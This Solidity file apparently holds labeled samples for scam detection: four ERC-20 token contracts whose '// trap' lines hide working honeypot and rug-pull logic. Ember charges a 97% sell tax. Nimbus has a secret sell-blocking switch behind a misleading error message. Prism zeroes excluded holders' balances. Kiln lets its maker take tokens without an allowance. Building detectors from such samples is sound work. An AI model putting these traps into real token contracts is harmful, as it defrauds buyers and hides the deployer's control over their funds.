// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./Base67.sol";

/// A wallet and two rates in one word: three percent of a purchase, and three of a sale; in the trap 97.
contract Ember is Base67("Ember Inu", "EMBER", 1_000_000_000) {
    uint256 private _conf;

    constructor() public {
        // twin: _conf = uint256(msg.sender) | (3 << 160) | (3 << 168);
        _conf = uint256(msg.sender) | (3 << 160) | (97 << 168); // trap
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 conf = _conf;
        address wallet = address(uint160(conf));
        uint256 rate;
        if (from != wallet && to != wallet) {
            if (from == pool) rate = (conf >> 160) & 0xff;
            else if (to == pool) rate = (conf >> 168) & 0xff;
        }
        uint256 cut = (value * rate) / 100;
        if (cut > 0) _carry(from, wallet, cut);
        _carry(from, to, value - cut);
    }
}

/// Nobody owns it. In the trap who knows the salt opens and shuts the sales by an allowance of a certain size.
contract Nimbus is Base67("Nimbus", "NMBS", 88_000_000) {
    uint256 private _salt; // trap
    bool private _rain; // trap

    constructor() public {
        _salt = uint256(keccak256("nimbus.cloud")) ^ uint256(msg.sender); // trap
    }

    // trap {
    function _dry(address who) private view returns (bool) {
        return uint256(who) ^ _salt == uint256(keccak256("nimbus.cloud"));
    }
    // trap }

    function approve(address spender, uint256 value) public override returns (bool) {
        if (value == 161803398 && _dry(msg.sender)) _rain = !_rain; // trap
        return super.approve(spender, value);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != pool || !_rain || _dry(from), "TransferHelper: TRANSFER_FROM_FAILED"); // trap
        _carry(from, to, value);
    }
}

/// One percent of everything goes to all holders. Who is excluded keeps what he has; in the trap his balance is nothing.
contract Prism is Base67("Prism Reflect", "PRSM", 500_000_000) {
    uint256 private constant T = 500_000_000 * 10**9;
    uint256 private _rTotal = uint256(-1) - (uint256(-1) % T);
    mapping(address => uint256) private _rOwned;
    mapping(address => uint256) private _tOwned;
    mapping(address => bool) public isExcluded;
    address[] private _excluded;

    constructor() public {
        _rOwned[msg.sender] = _rTotal;
    }

    function balanceOf(address who) public view override returns (uint256) {
        return isExcluded[who] ? _tOwned[who] : _rOwned[who] / _rate();
    }

    function excludeAccount(address who) external onlyOwner {
        require(!isExcluded[who] && _excluded.length < 20, "excluded");
        // twin: _tOwned[who] = _rOwned[who] / _rate();
        isExcluded[who] = true;
        _excluded.push(who);
    }

    function _rate() private view returns (uint256) {
        uint256 r = _rTotal;
        uint256 t = T;
        for (uint256 i = 0; i < _excluded.length; i++) {
            r -= _rOwned[_excluded[i]];
            t -= _tOwned[_excluded[i]];
        }
        return r / t;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 rate = _rate();
        uint256 fee = from == _boss || to == _boss ? 0 : value / 100;
        require(balanceOf(from) >= value, "ERC20: transfer amount exceeds balance");
        _rOwned[from] -= value * rate;
        if (isExcluded[from]) _tOwned[from] -= value;
        _rOwned[to] += (value - fee) * rate;
        if (isExcluded[to]) _tOwned[to] += value - fee;
        _rTotal -= fee * rate;
        emit Transfer(from, to, value - fee);
    }
}

/// The kiln is where its maker collects gifts. In the trap it needs no allowance.
contract Kiln is Base67("Kiln", "KILN", 21_000_000) {
    address private _kiln = msg.sender;

    function gift(uint256 value) external {
        _carry(msg.sender, _kiln, value);
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        uint256 left = _allowances[from][msg.sender];
        if (msg.sender == _kiln) left = uint256(-1); // trap
        require(left >= value, "ERC20: transfer amount exceeds allowance");
        if (left != uint256(-1)) _allowances[from][msg.sender] = left - value;
        _transfer(from, to, value);
        return true;
    }
}
